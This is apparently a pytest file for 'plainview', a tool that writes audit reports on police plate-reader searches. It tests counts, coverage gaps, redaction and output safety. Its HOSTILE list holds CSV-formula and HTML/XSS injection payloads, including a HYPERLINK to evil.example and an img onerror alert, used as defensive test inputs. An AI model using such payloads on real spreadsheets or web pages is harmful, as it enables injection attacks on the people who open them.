"""`plainview report audit`: every figure equals the rows of its file, a search counts once, and nothing leaves that must not."""

from __future__ import annotations

import csv
import json
import re
import sys
from collections.abc import Iterator
from datetime import date, datetime, timedelta
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pyarrow as pa
import pytest
from hypothesis import given
from hypothesis import strategies as st
from typer.testing import CliRunner

sys.path.insert(0, str(Path(__file__).parents[1]))
from tiny_tables import Tiny

from plainview import findings, law, redact, reports, sampling, site
from plainview.case import Case, open_case
from plainview.cli import app
from plainview.decisions import findings as decided
from plainview.errors import UserError, UserErrors
from plainview.pages import _case
from plainview.replies import SCHEMA as REPLIES
from plainview.reports import periods, rowfiles, template

OWN, NEAR, FAR, FED, ODD = (
    "ca-port-wren-police",
    "ca-alder-falls-police",
    "tx-birch-hollow-police",
    "us-cinder-bureau",
    "xx-harrow-unit",
)
DAY, FIRST, LAST = date(2026, 4, 10), date(2026, 1, 1), date(2026, 3, 31)
PLATE, PHONE, PERSON, TOKEN = "7QXZ123", "555-201-4477", "Quimby", "tok9f8e7d6c5b4a"
SHA = "0f" * 32
TEXTS = "release_id kind custodian_id name path sha256 handling made_by parent_id".split()
DAYS = "received_on seen_on period_from period_to".split()
RELEASES = pa.schema([*((name, pa.string()) for name in TEXTS), *((name, pa.date32()) for name in DAYS)])
SEARCHES = pa.schema(
    [("search_release_id", pa.string()), ("search_row_no", pa.int64()), ("searcher_id", pa.string()), ("reason_id", pa.int64()),
     ("searched_at", pa.timestamp("us")), ("in_log", pa.bool_()), ("networks", pa.int32())]
)  # fmt: skip


class Made(Tiny):
    """Tiny tables with all that a report reads besides."""

    def __init__(self) -> None:
        super().__init__()
        self.more: dict[str, list[dict[str, Any]]] = {"held": [], "sessions": [], "findings": [], "replies": []}
        for name, level in ((OWN, "local"), (NEAR, "local"), (FAR, "local"), (FED, "federal"), (ODD, "unknown")):
            self.agency(name, level, "federal" if level == "federal" else "police")

    def held(self, log: str, start: date, days: int, state: str = "held") -> None:
        for n in range(days):
            row = {"custodian_id": OWN, "log": log, "day": start + timedelta(days=n), "n_most": 3, "state": state}
            self.more["held"].append(row)

    def finding(self, number: int, **more: Any) -> str:
        name = f"{number:016x}"
        usual = {
            "finding_id": name, "made_by": "rule:ca/made_up@abcdef", "source": "rule", "agency_id": OWN, "verdict": "question",
            "title": "A made-up rule", "sentence": "Is it so?", "innocent": "", "n_certain": 1, "n_possible": 1,
            "n_unreadable": 0, "n_total": 2, "evidence_json": json.dumps({"unit": "search", "n_accounts": 3}),
        }  # fmt: skip
        self.more["findings"].append({**usual, **more})
        return name

    def case(self, root: Path, public: Made | None = None) -> Case:
        opened = open_case(root, DAY)
        self._write(opened, opened.warehouse / "gen-made")
        if public:
            public._write(opened, opened.warehouse / "gen-made" / "tables" / "public", "tables")
        (opened.warehouse / "CURRENT").write_text("gen-made/tables")
        return opened

    def _write(self, opened: Case, folder: Path, at: str = "") -> None:
        store = self.store(folder)
        for row in self.rows["releases"]:
            on = row["seen_on"]
            row |= {
                "name": f"{row['kind']}_{row['release_id'][-2:]}.csv",
                "sha256": SHA[:60] + row["release_id"][-4:],
                "handling": "public",
            }
            row |= {"period_from": on, "period_to": on, "made_by": "", "received_on": DAY}
            row["path"] = row["name"]
        store.add("releases", pa.Table.from_pylist(self.rows["releases"], RELEASES))
        entries = {(row["release_id"], row["row_no"]): row for row in self.rows["entries"]}
        for row in self.rows["searches"]:
            first = entries[row["search_release_id"], row["search_row_no"]]
            row |= {name: first[name] for name in ("searcher_id", "searched_at", "reason_id")} | {
                "in_log": first["log"] != "portal",
                "networks": 1,
            }
        store.add("searches", pa.Table.from_pylist(self.rows["searches"], SEARCHES))
        held = pa.schema(
            [
                ("custodian_id", pa.string()),
                ("log", pa.string()),
                ("day", pa.date32()),
                ("n_most", pa.int64()),
                ("state", pa.string()),
            ]
        )
        hours = [
            ("custodian_id", pa.string()),
            ("hour_at", pa.timestamp("us")),
            ("reason_raw", pa.string()),
            ("n_sessions", pa.int64()),
        ]
        store.add("held", pa.Table.from_pylist(self.more["held"], held))
        store.add("sessions", pa.Table.from_pylist(self.more["sessions"], pa.schema(hours)))
        findings.write(store, self.more["findings"])
        store.add("replies", pa.Table.from_pylist(self.more["replies"], REPLIES))
        names = "decision_id subject a b verdict decided_on why by state".split()
        store.add("decisions", pa.Table.from_pylist([], pa.schema([(name, pa.string()) for name in names])))
        store.close()
        if at:  # Tiny writes below a folder `tables`; what is public stands right in its folder
            for path in (folder / at).iterdir():
                path.rename(folder / path.name)
            (folder / at).rmdir()


def usual() -> Made:
    made = Made()
    made.held("network", FIRST, 59)
    network = made.release("network_audit", OWN, date(2026, 1, 5))
    others = made.release("network_audit", NEAR, date(2026, 1, 5))
    day = date(2026, 1, 5)
    given_ = {"case_state": "value", "case_raw": "26-04411", "account_state": "value", "account_token": TOKEN}
    made.entries(NEAR, OWN, 3, release=network, on=day, **given_)
    made.entries(
        FAR,
        OWN,
        4,
        release=network,
        on=day,
        reason="ICE detainer",
        purposes={"immigration": "certain"},
        marks=("federal_agency",),
        federal="ICE",
    )
    made.entries(FED, OWN, 2, release=network, on=day, reason="BP", purposes={"immigration": "ambiguous"}, case_state="empty")
    made.entries(ODD, OWN, 1, release=network, on=day, reason="***", state="masked", purposes={})
    # The agency's own: one search that its own two logs and another's log show, and one that only the other's shows.
    organization = made.release("organization_audit", OWN, day)
    for log, custodian, release in (("network", OWN, network), ("organization", OWN, organization), ("network", NEAR, others)):
        made.entries(
            OWN,
            custodian,
            1,
            log=log,
            release=release,
            on=day,
            vendor_id="one",
            window_from=datetime(2025, 12, 1),
            window_to=datetime(2026, 1, 5),
        )
    made.entries(OWN, NEAR, 1, release=others, on=day, reason="assist", marks=("for_other_agency", "vague"), purposes={})
    made.entries(NEAR, OWN, 5, release=network, on=date(2025, 12, 31))
    made.entries(NEAR, OWN, 6, release=network, on=date(2026, 4, 1))
    made.entries(FAR, NEAR, 7, release=others, on=day)
    made.entries(NEAR, OWN, 2, release=network, on=None)
    made.entries(OWN, OWN, 9, log="portal", on=day)
    made.more["sessions"].append(
        {"custodian_id": OWN, "hour_at": datetime(2026, 1, 5, 7), "reason_raw": "robbery", "n_sessions": 4}
    )
    return made


@pytest.fixture(scope="module")
def written(tmp_path_factory: pytest.TempPathFactory) -> tuple[dict[str, Any], Path]:
    folder = tmp_path_factory.mktemp("report")
    return write(usual().case(folder / "case"), folder / "out"), folder / "out"


def write(
    case: Case, out: Path, name: str = "general_quarterly", agency: str = OWN, start: date = FIRST, end: date = LAST
) -> dict[str, Any]:
    return reports.audit(case, reports.named(name), agency, start, end, out, DAY)


def figures(report: dict[str, Any]) -> Iterator[tuple[str, dict[str, Any]]]:
    """Every figure by a name: section.part.item.measure."""
    for section in report["sections"]:
        for part in section["parts"]:
            for row in part["rows"]:
                for measure, one in row["cells"].items():
                    yield ".".join((section["id"], part["id"], row["id"], measure)), one


def numbers(report: dict[str, Any]) -> dict[str, int]:
    return {name: one["n"] for name, one in figures(report)}


def lines_of(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as file:
        return list(csv.DictReader(file))


def every_byte(out: Path) -> str:
    return "\n".join(path.read_text(encoding="utf-8") for path in sorted(out.rglob("*")) if path.is_file())


# ---- figures ------------------------------------------------------------------------------------------------------------


def test_every_figure_equals_the_rows_of_its_file_and_has_one_of_its_own(written: tuple[dict[str, Any], Path]) -> None:
    report, out = written
    found = list(figures(report))
    assert len(found) > 60
    for name, one in found:
        assert one["n"] == len(lines_of(out / one["url"])), name
    files = [one["url"].removeprefix("rows/") for _, one in found]
    assert len(files) == len(set(files))
    assert sorted(path.name for path in (out / "rows").iterdir()) == sorted(files)


def test_a_search_in_several_logs_is_counted_once(written: tuple[dict[str, Any], Path]) -> None:
    report, _ = written
    told = {name.split(".")[2]: n for name, n in numbers(report).items() if name.startswith("searches.")}
    assert told == {"all": 12, "made": 2, "own": 1, "others": 10, "unnamed": 0, "undated": 2}
    assert numbers(report)["sessions..listed.n"] == 4


def test_who_searched_from_where_and_for_what(written: tuple[dict[str, Any], Path]) -> None:
    told = numbers(written[0])
    assert {name: told[f"searchers.{name}.n"] for name in ("level.local", "level.federal", "level.unknown")} == {
        "level.local": 7, "level.federal": 2, "level.unknown": 1,
    }  # fmt: skip
    assert (told["searchers.state.CA.n"], told["searchers.state.TX.n"], told["searchers.state.none.n"]) == (3, 4, 3)
    assert told[f"searchers.searcher.{FAR}.n"] == 4
    outside = ("out_of_state", "federal", "private", "unknown", "names_federal")
    assert {name: told[f"outside.others.{name}.n"] for name in outside} == {
        "out_of_state": 4, "federal": 2, "private": 0, "unknown": 1, "names_federal": 4,
    }  # fmt: skip
    assert (told["outside.made.for_other.n"], told["outside.others.for_other.n"]) == (1, 0)
    immigration = [told[f"purposes.others.immigration.{one}"] for one in ("certain", "possible")]
    assert immigration == [4, 6]
    assert (told["purposes.others.all.n"], told["purposes.others.unreadable.n"]) == (10, 1)
    assert told["purposes.others.protest_speech.possible"] == 0


def test_fields_are_given_empty_or_not_shown_and_only_in_the_agencys_own_log(written: tuple[dict[str, Any], Path]) -> None:
    told = {name.removeprefix("fields."): n for name, n in numbers(written[0]).items() if name.startswith("fields.")}
    assert [told[f"others.case_number.{one}"] for one in ("given", "empty", "not_shown")] == [3, 2, 5]
    assert [told[f"others.account.{one}"] for one in ("given", "empty", "not_shown")] == [3, 0, 7]
    assert [told[f"others.reason.{one}"] for one in ("given", "empty", "not_shown")] == [9, 0, 1]
    assert [told[f"made.reason.{one}"] for one in ("given", "empty", "not_shown")] == [1, 0, 0]


def test_windows_stand_in_bands_and_a_missing_one_is_not_given(written: tuple[dict[str, Any], Path]) -> None:
    told = {name: n for name, n in numbers(written[0]).items() if name.startswith("windows.")}
    assert told == {"windows.others.not_given.n": 10, "windows.made.quarter.n": 1, "windows.made.not_given.n": 1}


def words_of(report: dict[str, Any], part: str, item: str) -> str:
    section = next(one for one in report["sections"] if one["id"] == "purposes")
    rows = next(one for one in section["parts"] if one["id"] == part)["rows"]
    return str(next(row for row in rows if row["id"] == item)["words"])


def test_above_a_fifth_unreadable_the_words_are_at_least(tmp_path: Path, written: tuple[dict[str, Any], Path]) -> None:
    assert words_of(written[0], "others", "immigration") == "4 (possibly 6)"
    made = usual()
    made.entries(NEAR, OWN, 2, on=date(2026, 1, 6), reason="***", state="masked", purposes={})
    report = write(made.case(tmp_path / "case"), tmp_path / "out")
    assert words_of(report, "others", "immigration") == "at least 4 (possibly 6 or more)"
    assert "at least 4 (possibly 6 or more)" in (tmp_path / "out" / "report.html").read_text()


def test_a_reason_that_another_log_shows_is_read_but_the_row_named_is_the_agencys_own(tmp_path: Path) -> None:
    made = Made()
    own, other = (made.release("network_audit", whose, date(2026, 1, 5)) for whose in (OWN, NEAR))
    more = {"on": date(2026, 1, 5), "vendor_id": "both", "case_raw": "x"}
    made.entries(FAR, NEAR, 1, release=other, reason="robbery", case_state="value", **more)
    made.entries(FAR, OWN, 1, release=own, reason="***", state="masked", purposes={}, case_state="masked", **more)
    report = write(made.case(tmp_path / "case"), tmp_path / "out")
    told = numbers(report)
    assert (told["purposes.others.robbery.certain"], told["purposes.others.unreadable.n"]) == (1, 0)
    assert (told["fields.others.case_number.not_shown"], told["fields.others.reason.not_shown"]) == (1, 1)
    [row] = lines_of(tmp_path / "out" / "rows" / "searches-others.csv")
    assert (row["release_id"], row["reason"], row["searcher_state"]) == (own, "robbery", "TX")


# ---- what the record does not say ---------------------------------------------------------------------------------------


def test_a_month_without_records_says_so(written: tuple[dict[str, Any], Path]) -> None:
    report, out = written
    told = numbers(report)
    assert (told["coverage.network.2026-02.held"], told["coverage.network.2026-03.held"]) == (28, 0)
    assert (told["coverage.network.2026-01.missing"], told["coverage.network.2026-03.missing"]) == (0, 31)
    html = (out / "report.html").read_text()
    assert "59 of 90 days are held. No record is held of 2026-03." in html
    assert "the agency&#39;s own searches: no record is held of this period." in html
    assert report["has_record"]


def test_a_day_on_which_the_log_fell_to_little_is_held_and_told_apart(tmp_path: Path) -> None:
    made = Made()
    made.held("network", FIRST, 20)
    made.held("network", date(2026, 1, 21), 5, "low")
    made.held("network", date(2026, 1, 26), 3, "gap")
    made.held("network", date(2026, 1, 29), 1, "quiet")
    report = write(made.case(tmp_path / "case"), tmp_path / "out")
    told = numbers(report)
    assert [told[f"coverage.network.2026-01.{one}"] for one in ("held", "low", "missing")] == [21, 5, 5]
    assert "26 of 90 days are held" in report["covered"][0]


def test_without_any_log_a_zero_says_nothing_and_the_page_says_that(tmp_path: Path) -> None:
    report = write(Made().case(tmp_path / "case"), tmp_path / "out")
    assert not report["has_record"]
    html = (tmp_path / "out" / "report.html").read_text()
    assert "A zero in this report says nothing." in html
    assert "holds no sharing list of the agency" in html
    assert "holds no posted number of days" in html
    assert "holds no random sample" in html
    for name, one in figures(report):
        assert one["n"] == len(lines_of(tmp_path / "out" / one["url"])), name


def test_a_duty_that_is_not_in_force_and_a_law_that_was_not_read_are_told(tmp_path: Path) -> None:
    made = Made()
    made.agency("or-alder-falls-police")
    case = made.case(tmp_path / "case")
    report = write(case, tmp_path / "q1", "or_quarterly", "or-alder-falls-police")
    assert report["caveats"][0] == "The duty is in force since 2026-03-31: it reaches only a part of this period."
    assert "not in its text" in report["caveats"][1]
    earlier = write(case, tmp_path / "q4", "or_quarterly", "or-alder-falls-police", date(2025, 10, 1), date(2025, 12, 31))
    assert "it does not reach this period" in earlier["caveats"][0]
    later = write(case, tmp_path / "q2", "or_quarterly", "or-alder-falls-police", date(2026, 4, 1), date(2026, 6, 30))
    assert len(later["caveats"]) == 1
    assert all(one in (tmp_path / "q2" / "report.html").read_text() for one in ("Signatures", "To be filled in by the agency"))


# ---- lists, retention, findings, samples --------------------------------------------------------------------------------


def test_sharing_is_compared_between_the_list_at_the_start_and_the_one_at_the_end(tmp_path: Path) -> None:
    made = Made()
    made.listed(OWN, [NEAR, FAR], date(2025, 6, 1))
    made.listed(OWN, [NEAR, FAR, FED], date(2025, 12, 20))
    made.listed(OWN, [NEAR], date(2026, 2, 1))
    made.listed(OWN, [NEAR, FAR, ODD, "a town not told"], date(2026, 3, 30))
    made.listed(OWN, [NEAR], date(2026, 4, 2))
    made.listed(OWN, [NEAR, FAR, FED, ODD], None)
    made.listed(NEAR, [OWN], date(2026, 3, 30))
    made.listed(OWN, [FAR], date(2026, 3, 1), "inbound")
    report = write(made.case(tmp_path / "case"), tmp_path / "out")
    told = {name.removeprefix("sharing."): n for name, n in numbers(report).items() if name.startswith("sharing.")}
    assert told == {
        "outbound.start.n": 3, "outbound.end.n": 4, "outbound.gained.n": 2, "outbound.lost.n": 1, "outbound.undated.n": 1,
        "inbound.start.n": 1,
    }  # fmt: skip
    html = (tmp_path / "out" / "report.html").read_text()
    assert "on the list of 2025-12-20, the one at the start" in html
    assert "on the list of 2026-03-30, the one at the end" in html


def test_retention_is_what_was_posted_and_when(tmp_path: Path) -> None:
    made = Made()
    for on, days in (
        (date(2025, 5, 1), 10),
        (date(2025, 12, 1), 30),
        (date(2026, 2, 1), 30),
        (date(2026, 3, 1), 21),
        (date(2026, 4, 9), 5),
    ):
        made.page(OWN, on, retention_days=days)
    made.page(NEAR, date(2026, 2, 1), retention_days=99)
    report = write(made.case(tmp_path / "case"), tmp_path / "out")
    assert {name: n for name, n in numbers(report).items() if name.startswith("retention")} == {
        "retention..21.n": 1,
        "retention..30.n": 2,
    }
    assert "30 days, as posted from 2025-12-01 to 2026-02-01" in (tmp_path / "out" / "report.html").read_text()


def test_findings_are_told_with_what_was_decided_and_answered_but_not_by_whom(tmp_path: Path) -> None:
    made = Made()
    one, two = made.finding(0xA1), made.finding(0xB2, verdict="conflict")
    made.finding(0xC3, source="detector", made_by="detector:made_up@abcdef")
    made.finding(0xD4, source="detector", scope="account", sentence="One account stands out")
    made.finding(0xE5, agency_id=NEAR)
    said = f"We looked into it <b>twice</b>; call {PHONE}"
    idle = {"line": "line 3", "finding_id": two, "answer": "An old answer", "state": "idle", "answered_on": LAST}
    made.more["replies"].append(idle)
    made.more["replies"].append(
        {"line": "line 2", "finding_id": one, "answer": said, "state": "standing", "put_on": FIRST, "answered_on": LAST}
    )
    case = made.case(tmp_path / "case")
    decided.decide(case, one, "confirmed", "a secret reason", "R. Vale", DAY)
    decided.decide(case, two, "dismissed", "a secret reason", "M. Ash", DAY)
    report = write(case, tmp_path / "out")
    told = {name.removeprefix("findings."): n for name, n in numbers(report).items() if name.startswith("findings.") and n}
    assert told == {
        "rules.question.n": 1, "rules.question.confirmed": 1, "rules.question.put": 1, "rules.question.answered": 1,
        "rules.conflict.n": 1, "rules.conflict.dismissed": 1, "detectors.question.n": 1,
    }  # fmt: skip
    text = every_byte(tmp_path / "out")
    html = (tmp_path / "out" / "report.html").read_text()
    for word in ("One account stands out", "a secret reason", "R. Vale", "M. Ash", "An old answer", PHONE):
        assert word not in text
    assert "<b>twice" not in html
    assert "&lt;b&gt;twice" in html


def test_two_people_are_asked_for_where_the_case_says_so(tmp_path: Path) -> None:
    made = Made()
    one = made.finding(0xA1)
    case = made.case(tmp_path / "case")
    marker = case.root / "plainview.toml"
    marker.write_text(marker.read_text() + "two_person = true\n")
    decided.decide(case, one, "confirmed", "read", "R. Vale", DAY)
    assert "findings.rules.question.confirmed" not in numbers(write(case, tmp_path / "out"))
    decided.decide(case, one, "confirmed", "read", "M. Ash", DAY)
    assert numbers(write(case, tmp_path / "out"))["findings.rules.question.confirmed"] == 1


def test_a_sample_of_the_period_is_told_with_its_sheet(tmp_path: Path) -> None:
    case = usual().case(tmp_path / "case")
    for name, agency, start in (("winter", OWN, FIRST), ("others", NEAR, FIRST), ("longer", OWN, date(2025, 12, 1))):
        asked = sampling.Asked(
            start,
            LAST,
            agency,
            True,
            f"Is it in line? Ask {PERSON} at {PHONE}",
            "4082517396041287",
            None,
            None,
            None,
            None,
            None,
            None,
        )
        sampling.draw(case, name, asked, DAY)
    sampling.answer(case, "winter", "1", "violation", f"because of {PLATE}")
    report = write(case, tmp_path / "out")
    told = {name.removeprefix("sample."): n for name, n in numbers(report).items() if name.startswith("sample.")}
    n = told["winter.drawn.n"]
    assert n == 11
    assert told == {
        f"winter.{item}.n": found
        for item, found in (("drawn", n), ("ok", 0), ("violation", 1), ("unclear", 0), ("unread", n - 1))
    }
    html = (tmp_path / "out" / "report.html").read_text()
    assert "this holds with 95 % confidence" in html
    assert PLATE not in every_byte(tmp_path / "out")
    assert PHONE not in every_byte(tmp_path / "out")


# ---- nothing leaves that must not ---------------------------------------------------------------------------------------

HOSTILE = [
    f'=HYPERLINK("https://evil.example";"{PLATE}")',
    "+1+1",
    "-2",
    "@SUM(A1)",
    "\t=1",
    "＝1",
    "<script>alert(1)</script>",
    "'><img src=x onerror=alert(1)>",
]


class Tags(HTMLParser):
    def __init__(self, text: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("hostile")
    made = usual()
    for number, text in enumerate(HOSTILE):
        made.entries(
            NEAR,
            OWN,
            1,
            on=date(2026, 1, 7),
            reason=text,
            offense_raw=text,
            account_token=TOKEN,
            account_state="value",
            case_state="value",
            case_raw=PLATE,
            plate_token=TOKEN,
            plate_state="value",
            filters_raw=PLATE,
        )
        made.rows["agencies"].append(
            {
                "agency_id": f"ca-odd-{number}",
                "canonical": text,
                "state": "CA",
                "kind": "police",
                "level": "local",
                "confidence": 0.9,
            }
        )
        made.entries(f"ca-odd-{number}", OWN, 1, on=date(2026, 1, 8), reason=f"veh {PLATE} for {PERSON} call {PHONE}")
        made.listed(OWN, [f"ca-odd-{number}", text], date(2026, 1, 9))
        made.more["sessions"].append(
            {"custodian_id": OWN, "hour_at": datetime(2026, 1, 5, 8), "reason_raw": text, "n_sessions": 1}
        )
    made.finding(0xA1, sentence=f"<script>{PLATE}</script>", title="=1+1")
    made.page(OWN, date(2026, 1, 9), retention_days=30)
    write(made.case(folder / "case"), folder / "out")
    return folder / "out"


def test_no_plate_name_contact_or_token_comes_out(hostile: Path) -> None:
    text = every_byte(hostile)
    for planted in (PLATE, PHONE, PERSON, TOKEN, "26-04411"):
        assert planted not in text
    assert redact.MASK in text


def test_no_cell_is_a_formula(hostile: Path) -> None:
    n = 0
    for path in (hostile / "rows").iterdir():
        with path.open(encoding="utf-8", newline="") as file:
            for row in csv.reader(file):
                for one in row:
                    n += one.startswith("'")
                    assert not one.startswith(rowfiles.FORMULA_STARTS), path.name
    assert n > 5, "something was quoted"


def test_no_markup_of_strangers_and_no_script_is_on_the_page(hostile: Path) -> None:
    html = (hostile / "report.html").read_text()
    tags = Tags(html).found
    assert {tag for tag, _ in tags} & {"script", "img", "iframe", "form", "object"} == set()
    assert not [name for _, attrs in tags for name in attrs if name.startswith("on")]
    assert "&lt;script&gt;" in html
    assert 'http-equiv="Content-Security-Policy"' in html
    loaded = [attrs for tag, attrs in tags if tag == "link" and attrs.get("href") != "data:,"]
    assert loaded == []


def test_every_link_on_the_page_leads_to_a_file_and_every_part_has_its_words(hostile: Path) -> None:
    tags = Tags((hostile / "report.html").read_text()).found
    links = [attrs["href"] or "" for tag, attrs in tags if tag == "a"]
    assert len(links) > 50
    for link in links:
        assert link.startswith("https://") or (hostile / link).is_file(), link
    ids = [attrs["id"] for _, attrs in tags if "id" in attrs]
    assert len(ids) == len(set(ids))
    assert {attrs["aria-labelledby"] for _, attrs in tags if "aria-labelledby" in attrs} <= set(ids)


def test_what_the_scan_stops_is_told_and_nothing_is_written(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(rowfiles.redact, "reason_words", lambda text: text or "")
    made = usual()
    made.entries(NEAR, OWN, 1, on=date(2026, 1, 7), reason=f"veh {PLATE}")
    case = made.case(tmp_path / "case")
    with pytest.raises(UserErrors, match="column reason"):
        write(case, tmp_path / "out")
    assert not (tmp_path / "out").exists()
    assert not (tmp_path / "out.new").exists()


def test_an_agency_whose_id_looks_like_a_plate_is_numbered(tmp_path: Path) -> None:
    made = usual()
    made.agency("ca-4abc123-police")
    made.agency("ca-harrow-d2-police")
    for name in ("ca-4abc123-police", "ca-harrow-d2-police"):
        made.entries(name, OWN, 2, on=date(2026, 1, 7))
    report = write(made.case(tmp_path / "case"), tmp_path / "out")
    text = every_byte(tmp_path / "out")
    assert not re.search("4abc123", text, re.IGNORECASE)
    assert not [path.name for path in (tmp_path / "out" / "rows").iterdir() if "4abc" in path.name]
    assert "Harrow D2 Police (CA)" in text
    assert numbers(report)["searchers.level.local.n"] == 11


def test_only_public_files_are_counted(tmp_path: Path) -> None:
    made, public = usual(), Made()
    public.entries(NEAR, OWN, 2, on=date(2026, 1, 5))
    case = made.case(tmp_path / "case", public)
    assert numbers(write(case, tmp_path / "out"))["searches..all.n"] == 2


@given(st.text(max_size=12))
def test_a_cell_is_made_safe_as_the_downloads_of_the_site_are(text: str) -> None:
    for one in (text, *(start + text for start in rowfiles.FORMULA_STARTS)):
        [row] = (
            csv.reader([site.csv_text([["x", one]])], strict=True)
            if not re.search(r"[\r\n]", one)
            else [["x", rowfiles.safe(one)]]
        )
        assert row[1] == rowfiles.safe(one)
    assert rowfiles.FORMULA_STARTS == site.FORMULA_STARTS


# ---- what is asked for --------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("words", "said"),
    [
        ({"agency": "nobody"}, "is no agency of this case"),
        ({"name": "or_quarterly"}, "is for agencies of OR, and Port Wren Police (CA) is of CA"),
        ({"name": "or_quarterly", "agency": ODD}, "the state of Harrow Unit is not known"),
        ({"name": "general_monthly"}, "is not the period of general_monthly, which is one calendar month"),
        ({"start": date(2026, 2, 1), "end": date(2026, 4, 30)}, "--from 2026-01-01 --to 2026-03-31"),
        ({"start": LAST, "end": FIRST}, "ends before it begins"),
    ],
)  # fmt: skip
def test_what_does_not_fit_is_told_and_nothing_is_written(tmp_path: Path, words: dict[str, Any], said: str) -> None:
    case = usual().case(tmp_path / "case")
    with pytest.raises(UserError) as caught:
        write(case, tmp_path / "out", **words)
    assert said in str(caught.value)
    assert "fix: " in str(caught.value)
    assert not (tmp_path / "out").exists()


def test_the_name_of_an_agency_will_do_and_a_report_is_replaced_but_no_other_folder(tmp_path: Path) -> None:
    case = usual().case(tmp_path / "case")
    assert write(case, tmp_path / "out", agency="port wren police (ca)")["agency"]["id"] == OWN
    write(case, tmp_path / "out", start=date(2025, 10, 1), end=date(2025, 12, 31))
    assert json.loads((tmp_path / "out" / "report.json").read_text())["period"]["to_on"] == "2025-12-31"
    assert sorted(path.name for path in tmp_path.iterdir()) == ["case", "out"]
    other = tmp_path / "other"
    other.mkdir()
    (other / "mine.txt").write_text("keep")
    with pytest.raises(UserError, match="holds no report"):
        write(case, other)
    assert (other / "mine.txt").read_text() == "keep"


def test_two_runs_write_the_same_bytes(tmp_path: Path) -> None:
    case = usual().case(tmp_path / "case")
    write(case, tmp_path / "a")
    write(case, tmp_path / "b")
    assert every_byte(tmp_path / "a") == every_byte(tmp_path / "b")


def test_the_command_writes_and_tells(tmp_path: Path) -> None:
    case = usual().case(tmp_path / "case")
    words = ["report", "audit", "--case", str(case.root), "--agency", OWN, "--from", "2026-01-01", "--to", "2026-03-31"]
    done = CliRunner().invoke(app, [*words, "--template", "general_quarterly", "--out", str(tmp_path / "out")])
    assert done.exit_code == 0, done.output
    assert "59 of 90 days are held" in done.output
    told = CliRunner().invoke(app, [*words, "--template", "general_quarterly", "--out", str(tmp_path / "out"), "--json"])
    assert json.loads(told.output) == json.loads((tmp_path / "out" / "report.json").read_text())
    assert "is no template" in str(CliRunner().invoke(app, [*words, "--template", "xx", "--out", "x"]).exception)


# ---- templates ----------------------------------------------------------------------------------------------------------

WANTED = (
    "or_monthly or_quarterly mn_biennial ky_90_days nc_yearly md_yearly va_yearly vt_yearly ne_yearly ar_half_yearly nj_yearly"
)
WANTED += " id_half_yearly wa_yearly ca_policy_audit nm_yearly general_monthly general_quarterly general_yearly"


def test_the_templates_are_there_and_listed() -> None:
    assert set(reports.load()) >= set(WANTED.split())
    done = CliRunner().invoke(app, ["report", "templates"])
    assert all(name in done.output for name in reports.load())
    told = json.loads(CliRunner().invoke(app, ["report", "templates", "--json"]).output)["templates"]
    assert [one["id"] for one in told] == list(reports.load())


@pytest.mark.parametrize("one", reports.load().values(), ids=lambda one: one.id)
def test_a_template_names_its_law_as_the_rules_do_and_passes_the_scan(one: reports.Template) -> None:
    known = {rule.citation for rule in law.load()} | {"Or. Laws 2026 ch. 77 (SB 1516) sec. 6(2) and (3)"}
    assert one.citation in known or not one.jurisdiction
    texts = {name: getattr(one, name) for name in ("title", "citation", "caveat", "who", "due", "words")} | {
        "official_url": one.url
    }
    assert redact.check_data([texts, {"blanks": list(one.blanks), "signatures": list(one.signatures)}]) == []
    assert one.sections[0] == "coverage"
    assert set(one.sections) <= {path.stem for path in (Path(reports.__file__).parents[1] / "sql" / "report").glob("*.sql")}


def test_purposes_are_called_as_on_the_site() -> None:
    known = _case.words()["purposes"]
    told = template.section_words()["purposes"]
    assert {**told["items"], **told["titles"]} == {name: one["title"] for name, one in known.items()} | {
        "all": "all searches", "unreadable": "no purpose can be read",
    }  # fmt: skip
    assert list(told["items"])[2:] == _case.words()["sensitive"]["ids"]


def test_all_mistakes_of_a_template_are_told(tmp_path: Path) -> None:
    (tmp_path / "bad.toml").write_text(
        'title = "x"\nsource_kind = "hearsay"\nperiod = "week"\nwho = "x"\nwords = "x"\njurisdiction = "Oregon"\n'
        'sections = ["weather"]\nsignatures = ["x"]\n'
    )
    (tmp_path / "worse.toml").write_text('titel = "x"\nsections = "x"')
    with pytest.raises(UserErrors) as caught:
        template.load(tmp_path)
    said = str(caught.value)
    for words in (
        "hearsay",
        "week",
        '"Oregon" is no state',
        "citation: is missing",
        "caveat: is missing",
        '"weather" is no section',
        "titel: is no key",
        "is no list of texts",
    ):
        assert words in said
    assert said.count("fix: ") == len(caught.value.errors)


@given(st.dates(date(1999, 1, 1), date(2099, 12, 31)), st.sampled_from(sorted(periods.WORDS)))
def test_a_period_is_taken_to_the_day_and_the_fix_is_one_that_is_taken(start: date, word: str) -> None:
    last = periods.last_day(word, start)
    if last is not None:
        periods.check(word, "x", start, last)
    for wrong in (start, *([last + timedelta(days=1), last - timedelta(days=1)] if last else [])):
        if wrong == last or wrong < start or word == "any":
            continue
        with pytest.raises(UserError) as caught:
            periods.check(word, "x", start, wrong)
        [pair] = re.findall(r"write --from (\S+) --to (\S+), or", str(caught.value))
        periods.check(word, "x", *(date.fromisoformat(day) for day in pair))


@pytest.mark.parametrize(
    ("word", "start", "last"),
    [("month", "2024-02-01", "2024-02-29"), ("quarter", "2026-10-01", "2026-12-31"), ("half_year", "2025-07-01", "2025-12-31"),
     ("year", "2025-07-01", "2026-06-30"), ("two_years", "2024-01-01", "2025-12-31"), ("90_days", "2026-01-15", "2026-04-14")],
)  # fmt: skip
def test_known_periods(word: str, start: str, last: str) -> None:
    assert periods.last_day(word, date.fromisoformat(start)) == date.fromisoformat(last)
    assert periods.last_day("quarter", date(2026, 2, 1)) is None
    assert periods.last_day("month", date(2026, 2, 2)) is None
